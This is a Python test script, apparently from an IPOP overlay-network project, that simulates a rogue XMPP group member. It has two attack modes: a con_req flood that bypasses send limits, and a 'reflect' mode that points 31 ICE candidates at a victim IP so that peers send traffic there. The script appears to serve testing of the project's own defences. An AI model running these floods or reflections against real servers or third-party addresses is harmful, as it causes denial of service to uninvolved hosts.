"""A rogue group member's signaling, run as its own process in its own namespace (issue 16).

    python rogue_signal.py flood   JID PASSWORD HOST GROUP TARGET_USER COUNT SECONDS MY_IP
    python rogue_signal.py reflect JID PASSWORD HOST GROUP TARGET_USER VICTIM_IP

It logs in to the real XMPP server as a group member, waits for the target's presence, then
``flood`` sends COUNT con_req (each with a fresh UID and ICE candidates at MY_IP:9) spread over
SECONDS; ``reflect`` sends one con_req whose 31 candidates all point at VICTIM_IP.  Prints one
JSON line with what it sent.  The attacker's own send limit is lifted (an attacker would).
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
from typing import Any

from ipop.signal.base import SignalListener
from ipop.signal.xmpp import XmppSettings, XmppSignal
from ipop.wire.signal import SignalMessage

FPR = "sha-256 " + ":".join(["5A"] * 32)
CREDS = "ice:AbCd:" + "x" * 24


class Seen(SignalListener):
    def __init__(self, target: str) -> None:
        self.target = target
        self.jid: asyncio.Future[str] = asyncio.get_running_loop().create_future()

    def on_presence(self, jid: str, uid: str | None, online: bool, ip4: str | None = None, *,
                    ip6: str | None = None) -> None:
        if online and uid and jid.startswith(self.target + "@") and not self.jid.done():
            self.jid.set_result(jid)


def con_req(group: str, ip4: str, candidates: list[str]) -> SignalMessage:
    return SignalMessage(type="con_req", uid=os.urandom(20).hex(), overlay_id=group, ip4=ip4,
                         fingerprint=FPR, candidates=tuple(candidates), sec=False,
                         security_groups=None)


async def main(argv: list[str]) -> dict[str, Any]:
    mode, jid, password, host, group, target = argv[:6]
    seen = Seen(target)
    settings = XmppSettings(jid=jid, password=password, host=host, tls="none", group=group,
                            send_rate=10_000.0, send_burst=10_000.0)
    sig = XmppSignal(settings, seen)
    await sig.set_presence(os.urandom(20).hex(), "100.64.40.250")
    await sig.connect()
    try:
        peer = await asyncio.wait_for(seen.jid, 20)
        sent = 0
        if mode == "flood":
            count, seconds, my_ip = int(argv[6]), float(argv[7]), argv[8]
            cands = [CREDS, f"candidate:1 1 udp 2130706431 {my_ip} 9 typ host"]
            for i in range(count):
                if await sig.send(peer, con_req(group, "100.64.40.250", cands)):
                    sent += 1
                if i % 10 == 9:
                    await asyncio.sleep(seconds * 10 / count)
        else:
            victim = argv[6]
            cands = [CREDS] + [
                f"candidate:{i} 1 udp {2130706431 - i} {victim} {7000 + i} typ "
                + ("host" if i < 11 else "srflx raddr 0.0.0.0 rport 0" if i < 21
                   else "relay raddr 0.0.0.0 rport 0")
                for i in range(31)]
            if await sig.send(peer, con_req(group, "100.64.40.250", cands)):
                sent += 1
        await asyncio.sleep(1.0)  # let the server pass the last ones on
        return {"sent": sent, "drops": dict(sig.drops)}
    finally:
        await sig.close()


if __name__ == "__main__":
    print(json.dumps(asyncio.run(main(sys.argv[1:]))), flush=True)
